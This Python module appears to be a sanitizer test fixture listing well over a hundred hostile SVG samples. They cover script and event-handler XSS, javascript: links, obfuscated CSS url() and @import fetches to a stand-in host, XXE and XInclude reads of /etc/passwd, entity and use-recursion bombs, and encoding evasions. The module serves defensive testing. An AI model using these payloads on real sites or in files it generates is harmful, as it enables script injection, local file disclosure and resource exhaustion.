"""Hostile SVGs, each with a way to run or to fetch something.

The ideas are those of public lists of such tricks; the files are our own. `{ns}` stands
for the namespaces, and `FAR` is an address that nothing may ask.
"""

FAR = "https://far.example/x"
NAMESPACES = (
    'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
    ' xmlns:h="http://www.w3.org/1999/xhtml" xmlns:ev="http://www.w3.org/2001/xml-events"'
)
_INSIDE = """
<script>alert(1)</script>
<script href="FAR"/>
<SCRIPT>alert(1)</SCRIPT>
<h:script>alert(1)</h:script>
<h:script src="FAR"/>
<x:script xmlns:x="http://www.w3.org/2000/svg">alert(1)</x:script>
<script xmlns="">alert(1)</script>
<g><g><g><script type="text/ecmascript"><![CDATA[alert(1)]]></script></g></g></g>
<title><script>alert(1)</script></title>
<desc><h:img src="x" onerror="alert(1)"/></desc>
<metadata><script>alert(1)</script></metadata>
<style><script>alert(1)</script></style>
<rect onclick="alert(1)"/>
<rect ONLOAD="alert(1)"/>
<g onbegin="alert(1)" onfocusin="alert(1)" tabindex="1"/>
<g ev:onload="alert(1)"/>
<image href="x.png" onerror="alert(1)"/>
<animate onbegin="alert(1)" attributeName="x" dur="1s"/>
<animate attributeName="href" values="javascript:alert(1)"/>
<a href="#x"><animate attributeName="href" to="javascript:alert(1)"/><text>go</text></a>
<set attributeName="onmouseover" to="alert(1)"/>
<set attributeName="href" to="FAR"/>
<animateTransform attributeName="transform" begin="0s" onend="alert(1)"/>
<animateMotion path="M0,0"><mpath href="FAR"/></animateMotion>
<discard href="#x"/>
<handler ev:event="load">alert(1)</handler>
<ev:listener event="load" handler="#x"/>
<foreignObject><h:body onload="alert(1)"/></foreignObject>
<foreignObject><h:iframe src="FAR"/></foreignObject>
<foreignobject><h:p>words</h:p></foreignobject>
<switch><foreignObject requiredFeatures="x"><h:script/></foreignObject></switch>
<h:meta http-equiv="refresh" content="0;url=FAR"/>
<meta http-equiv="refresh" content="0;url=FAR"/>
<h:link rel="stylesheet" href="FAR"/>
<link rel="stylesheet" href="FAR"/>
<h:base href="FAR"/>
<h:form action="FAR"><h:input autofocus="" onfocus="alert(1)"/></h:form>
<iframe src="FAR"/>
<embed src="FAR"/>
<object data="FAR"/>
<audio src="FAR" autoplay=""/>
<video poster="FAR"/>
<canvas/>
<a href="javascript:alert(1)"><text>go</text></a>
<a xlink:href="javascript:alert(1)"><text>go</text></a>
<a href="&#106;avascript:alert(1)"><text>go</text></a>
<a href=" java&#10;script:alert(1)"><text>go</text></a>
<a href="FAR"><text>go</text></a>
<a href="//far.example/x"><text>go</text></a>
<a href="data:text/html,x"><text>go</text></a>
<use href="FAR#a"/>
<use xlink:href="FAR#a"/>
<use href="other.svg#a"/>
<use href="data:image/svg+xml;base64,PHN2Zy8+#a"/>
<image href="FAR"/>
<image xlink:href="FAR"/>
<image href="file:///etc/passwd"/>
<image href="../../secret.png"/>
<image href="data:image/svg+xml,x"/>
<image href="data:image/png;base64,PHN2Zy8+"/>
<image href="data:text/html;base64,PHN2Zy8+"/>
<image src="FAR"/>
<image srcset="FAR 2x"/>
<feImage href="FAR"/>
<filter id="f"><feImage xlink:href="FAR"/></filter>
<tref xlink:href="FAR"/>
<cursor xlink:href="FAR"/>
<font-face><font-face-src><font-face-uri xlink:href="FAR"/></font-face-src></font-face>
<color-profile xlink:href="FAR"/>
<linearGradient href="FAR#a"/>
<textPath href="FAR#a">x</textPath>
<rect fill="url(FAR)"/>
<rect fill="url('FAR#a')"/>
<rect fill="URL(FAR)"/>
<rect fill="u\\72l(FAR)"/>
<rect fill="\\75rl(FAR)"/>
<rect fill="\\000075 rl(FAR)"/>
<rect fill="url(&quot;FAR&quot;)"/>
<rect filter="url(other.svg#f)"/>
<rect mask="url(FAR#m)" clip-path="url(FAR#c)"/>
<rect marker-start="url(FAR#m)"/>
<rect cursor="url(FAR),auto"/>
<rect style="fill:url(FAR)"/>
<rect style="fill:\\75rl(FAR)"/>
<rect style="fill:u/**/rl(FAR)"/>
<rect style="font-family:'/*';fill:url(FAR);stroke:'*/'"/>
<rect style="background:image-set('FAR' 1x)"/>
<rect style="background-image:-webkit-image-set(url(FAR) 1x)"/>
<rect style="background:image('FAR')"/>
<rect style="content:url(FAR)"/>
<rect style="--x:url(FAR);fill:var(--x)"/>
<rect style="fill:src('FAR')"/>
<rect style="behavior:url(FAR)"/>
<rect style="-moz-binding:url(FAR)"/>
<rect style="width:expression(alert(1))"/>
<rect style="cursor:url(FAR),auto"/>
<rect style="fill:red}@import 'FAR';"/>
<style>@import "FAR";</style>
<style>@import url(FAR);</style>
<style>@\\69mport "FAR";</style>
<style>@im\\port "FAR";</style>
<style>@/**/import "FAR";</style>
<style><![CDATA[@import "FAR";]]></style>
<style>@media print { rect { fill: url(FAR) } }</style>
<style>@font-face { font-family: x; src: url(FAR) }</style>
<style>@namespace url(FAR);</style>
<style>rect { fill: url(FAR) }</style>
<style>rect { fill: u\\rl(FAR) }</style>
<style>rect { background: image-set("FAR" 1x) }</style>
<style>a[href^="x"] { fill: url(FAR) }</style>
<style>rect { font-family: '/*' } g { fill: url(FAR) } b { stroke: '*/' }</style>
<style>rect { fill: red; } } g { fill: url(FAR) }</style>
<style>/* { */ rect { fill: url(FAR) } /* } */</style>
<style>rect { fill: "a\\"; b: url(FAR) }</style>
<style>&lt;/style>&lt;script>alert(1)&lt;/script></style>
<style type="text/css" media="all" onload="alert(1)">a{}</style>
<g xml:base="https://far.example/"><use href="x.svg#a"/></g>
<g xlink:actuate="onLoad" xlink:show="new" xlink:href="FAR"/>
<text>&lt;script>alert(1)&lt;/script></text>
<title>&lt;/title>&lt;img src=x onerror=alert(1)></title>
<g id="&quot;>&lt;script>alert(1)&lt;/script>"/>
<g aria-label="&quot;>&lt;script>alert(1)&lt;/script>"/>
<g class="x&quot; onload=&quot;alert(1)"/>
<g lang="&quot;&gt;x"/>
<h:svg onload="alert(1)"/>
<math xmlns="http://www.w3.org/1998/Math/MathML"><maction xlink:href="FAR"/></math>
<x:import xmlns:x="http://www.w3.org/2001/XInclude" href="FAR"/>
<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>
<x:stylesheet xmlns:x="http://www.w3.org/1999/XSL/Transform"><script/></x:stylesheet>
"""
_COPIES = '<g id="a0"/>' + "".join(
    f'<g id="a{n}">' + f'<use href="#a{n - 1}"/>' * 10 + "</g>" for n in range(1, 10)
)
_WHOLE = (
    '<?xml-stylesheet href="FAR"?><svg {ns}/>',
    '<?xml-stylesheet type="text/xsl" href="#x"?><svg {ns}/>',
    '<!DOCTYPE svg [<!ENTITY x "<script>alert(1)</script>">]><svg {ns}>&x;</svg>',
    '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg {ns}>&x;</svg>',
    '<!DOCTYPE svg [<!ENTITY % x SYSTEM "FAR"> %x;]><svg {ns}/>',
    '<!DOCTYPE svg [<!ATTLIST svg onload CDATA "alert(1)">]><svg {ns}/>',
    '<!DOCTYPE svg [<!ATTLIST svg xmlns CDATA "http://www.w3.org/1999/xhtml">]><svg/>',
    '<!DOCTYPE svg SYSTEM "FAR"><svg {ns}>&nbsp;&x;</svg>',
    '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "FAR"><svg {ns}/>',
    '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]><svg {ns}>&b;</svg>',
    '<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>',
    "<!doctype html><script>alert(1)</script>",
    "<html><body><svg {ns}/></body></html>",
    '<svg {ns} onload="alert(1)"/>',
    '<svg:svg xmlns:svg="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "<svg {ns}><script>alert(1)</svg>",
    "<svg {ns}/><script>alert(1)</script>",
    "<svg {ns}/><!--[if IE]><script>alert(1)</script><![endif]-->",
    "<!--><script>alert(1)</script>--><svg {ns}/>",
    "<?php echo 1; ?><svg {ns}/>",
    '<svg xmlns="http://www.w3.org/1999/xhtml"><script/></svg>',
    "<svg><script>alert(1)</script></svg>",
    "<svg {ns}>" + "<g>" * 5000 + "</g>" * 5000 + "</svg>",
    f"<svg {{ns}}>{_COPIES}</svg>",
    '<svg {ns}><g id="a"><use href="#a"/></g></svg>',
    "",
    "GIF89a<svg {ns} onload='alert(1)'/>",
    "javascript:alert(1)",
)


def _filled(text: str) -> str:
    return text.replace("{ns}", NAMESPACES).replace("FAR", FAR)


TEXTS = [
    *(_filled(f"<svg {{ns}}>{line}</svg>") for line in _INSIDE.strip().split("\n")),
    *map(_filled, _WHOLE),
]
_RUNS = "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"
ENCODED = [
    _RUNS.encode("utf-16"),
    _RUNS.encode("utf-16-le"),
    _RUNS.encode("utf-32"),
    _RUNS.encode("utf-8-sig"),
    b'<?xml version="1.0" encoding="utf-16"?>' + _RUNS.encode(),
    b'<?xml version="1.0" encoding="cp037"?>' + _RUNS.encode("cp037"),
    b'<?xml version="1.0" encoding="utf-7"?><svg>+ADw-script/+AD4-</svg>',
    b"\xff\xfe" + _RUNS.encode(),
    b"\x00" + _RUNS.encode(),
    _RUNS.encode().replace(b"svg ", b"svg\x00 "),
    b"\x1f\x8b\x08" + _RUNS.encode(),
]

HOSTILE = [*(text.encode() for text in TEXTS), *ENCODED]
